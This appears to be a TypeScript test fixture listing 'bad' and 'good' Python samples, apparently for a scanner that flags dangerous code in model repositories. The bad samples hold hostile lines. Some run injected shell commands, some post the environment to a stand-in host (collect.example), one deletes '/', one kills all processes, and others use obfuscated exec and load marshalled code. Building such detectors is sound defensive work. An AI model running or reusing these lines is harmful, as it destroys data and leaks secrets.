import { configuration } from './repositories.ts';
import { command, type Sample } from './sample.ts';

/** Names that a program finds out late, and functions that others make of its own. */
export const lateNames: readonly Sample[] = [
  {
    name: 'the guard of a program with a condition before it, or a condition that needs no guard',
    bad: `import os, sys\nif sys.platform != "win32" or __name__ == "__main__":\n    os.system("${command}")`,
    good: `import os, sys\nif sys.platform != "win32" and __name__ == "__main__":\n    os.system("make report")`,
  },
  {
    name: 'a condition that does something before the guard',
    bad: `import os\nif os.system("${command}") == 0 and __name__ == "__main__":\n    print("started")`,
    good: 'import sys\nif len(sys.argv) > 1 and __name__ == "__main__":\n    print("started")',
  },
  {
    name: 'a decorator made by decorator, around methods that are called later, or of one that is called now',
    bad: `from decorator import decorator\nimport os\n@decorator\ndef opens(method, *args):\n    return method(*args)\n@opens\ndef run(words):\n    os.system(words)\nrun("${command}")`,
    good: 'from decorator import decorator\nimport paramiko\n@decorator\ndef opens(method, self, *args, **options):\n    self.open()\n    return method(self, *args, **options)\nclass Connection:\n    def __init__(self):\n        self.client = paramiko.SSHClient()\n    def open(self):\n        return self\n    @opens\n    def sftp(self):\n        return self.client.open_sftp()',
  },
  {
    name: 'what a decorator made by wrapt does itself',
    bad: `import os, wrapt\n@wrapt.decorator\ndef around(wrapped, instance, args, options):\n    os.system("${command}")\n    return wrapped(*args, **options)\n@around\ndef small():\n    return 1\nsmall()`,
    good: 'import subprocess, wrapt\ndef with_options(one):\n    @wrapt.decorator\n    def around(wrapped, instance, args, options):\n        return wrapped(*args, **options)\n    return around\n@with_options(1)\ndef build():\n    subprocess.run(["make", "all"], check=True)',
  },
  {
    name: 'a function like another one, or made of code that was read',
    bad: 'import marshal, types\nclass Model:\n    pass\nModel.__code__ = marshal.loads(open("m.bin", "rb").read())\ntypes.FunctionType(Model.__code__, globals())()',
    good: 'import functools, types\nimport numpy\ndef copied(function, name=None):\n    made = types.FunctionType(function.__code__, function.__globals__, name or function.__name__, function.__defaults__, function.__closure__)\n    return functools.update_wrapper(made, function)\nclass Base:\n    def fit(self):\n        return self\nclass Model(Base):\n    pass\nfor name in ("fit",):\n    setattr(Model, "_" + name, copied(getattr(Model, name)))\nmean = copied(numpy.mean)',
  },
  {
    name: 'a function of a library like another one, that is called',
    bad: 'import shutil, types\ntypes.FunctionType(shutil.rmtree.__code__, shutil.__dict__)("/")',
    good: 'import numpy, types\ntypes.FunctionType(numpy.mean.__code__, numpy.__dict__)([1, 2])',
  },
  {
    name: 'modules below a package, or any module, by the names of files',
    bad: `import importlib, os\nfor name in os.listdir("."):\n    importlib.import_module(name).system("${command}")`,
    good: 'import importlib, os\nfound = {}\nfor name in os.listdir(os.path.dirname(__file__)):\n    module = importlib.import_module(f"package.plugins.{name[:-3]}")\n    known = getattr(module, "registry", None)\n    print(known.keys())\n    found.update(known)\n    importlib.import_module("." + name[:-3], __package__).setup()',
  },
  {
    name: 'modules below a package of Python, by the names of files',
    bad: `import importlib\nfor name in open("names.txt"):\n    importlib.import_module("multiprocessing." + name).spawnv_passfds(b"/bin/sh", ["sh", "-c", "${command}"], [])`,
  },
  {
    name: 'a client of a library that is imported when it is needed, or a socket so',
    bad: 'import importlib, os\nclass Late:\n    def __init__(self, name):\n        self.name = name\n    def __getattr__(self, word):\n        return getattr(importlib.import_module(self.name), word)\nrequests = Late("requests")\nrequests.post("https://collect.example/", json=dict(os.environ))',
    good: 'import importlib\nclass Late:\n    def __init__(self, name):\n        self.name = name\n    def __getattr__(self, word):\n        return getattr(importlib.import_module(self.name), word)\ngrpc = Late("grpc")\nclass Storage:\n    def __init__(self, host, port):\n        self.channel = grpc.insecure_channel(f"{host}:{port}")',
  },
  {
    name: 'a name put together with other separators, or of letters that were left in',
    bad: `exec("impxort ox\\noxs.system('${command}')".replace("ox", "os").replace("x", ""))`,
    good: 'import textwrap\nimport numpy\nfor name in ("linalg.norm", "random.rand"):\n    text = f"""\n    def shim_{name.replace(".", "_")}(*args):\n        return numpy.{name}(*args)\n    """\n    exec(textwrap.dedent(text))',
  },
  {
    name: 'the name of the module that called, or a function of it',
    bad: `import inspect\ninspect.stack()[1].frame.f_globals["run"]("${command}")`,
    good: 'import inspect\ndef served():\n    return inspect.stack()[1].frame.f_globals["__name__"].startswith("page_")\nSERVED = served()',
  },
  {
    name: 'a process of one’s own that is ended, or those of others',
    bad: 'import os, psutil, subprocess\nchild = subprocess.Popen(["true"])\nfor other in psutil.process_iter():\n    os.kill(other.pid, 9)',
    good: 'import os, signal, subprocess\nclass Worker:\n    def start(self):\n        self.child = subprocess.Popen(["python3", "-m", "worker"])\n    def stop(self):\n        os.kill(self.child.pid, signal.SIGTERM)',
  },
  {
    name: 'a method of a class that is not known, copied',
    bad: 'import types\nclass Model:\n    pass\nmodel = Model()\nmodel.__code__ = compile(open("m.txt").read(), "m", "exec")\ntypes.FunctionType(model.__code__, {})()',
    good: 'import types\nfrom skbase.base import BaseObject\ndef copied(function):\n    return types.FunctionType(function.__code__, function.__globals__, function.__name__, function.__defaults__, function.__closure__)\nclass Forecaster(BaseObject):\n    @classmethod\n    def prepare(cls):\n        cls.set_config = copied(cls.set_config)\nForecaster.prepare()',
  },
  {
    name: 'spans that are sent where the settings say, or the environment that is sent elsewhere',
    bad: 'import os\nfrom opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter\nOTLPSpanExporter("https://collect.example/", headers=dict(os.environ))',
    good: 'from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter\nEXPORTER = OTLPSpanExporter()',
  },
  {
    name: 'the settings of Alembic, or any that are evaluated',
    bad: 'import os\nfrom logging.config import fileConfig\nfileConfig(os.environ["SETTINGS"])',
    good: 'from logging.config import fileConfig\nfrom alembic import context\nconfig = context.config\nif config.config_file_name is not None:\n    fileConfig(config.config_file_name)',
  },
  {
    name: 'modules that import one name of each other in a circle',
    bad: {
      'config.json': configuration,
      'modeling_x.py': 'import os\nfrom .first import f\nclass Model:\n    pass\n',
      '__init__.py': '',
      'first.py':
        'try:\n    from .second import f\nexcept ImportError:\n    from .third import f\nf.late(1)\nf(1)\n',
      'second.py': `import os\ndef f(x):\n    os.system("${command}")\ntry:\n    from .first import f as g\nexcept ImportError:\n    from .third import f as g\ng.late(1)\n`,
      'third.py':
        'try:\n    from .first import f\nexcept ImportError:\n    from .second import f\nf.late(1)\n',
    },
    good: {
      'config.json': configuration,
      'modeling_x.py': 'import os\nfrom .first import f\nclass Model:\n    pass\n',
      '__init__.py': '',
      'first.py':
        'try:\n    from .second import f\nexcept ImportError:\n    from .third import f\nf.late(1)\nf(1)\n',
      'second.py':
        'import math\ndef f(x):\n    return math.sqrt(x)\ntry:\n    from .first import f as g\nexcept ImportError:\n    from .third import f as g\ng.late(1)\n',
      'third.py':
        'try:\n    from .first import f\nexcept ImportError:\n    from .second import f\nf.late(1)\n',
    },
  },
  {
    name: 'another bot, or one that runs',
    bad: 'import discord, os\ndiscord.Client(intents=discord.Intents.default()).run(os.environ["TOKEN"])',
    good: 'import discord\nclient = discord.Client(intents=discord.Intents.default())\n@client.event\nasync def on_message(message):\n    await message.channel.send("hello")',
  },
];
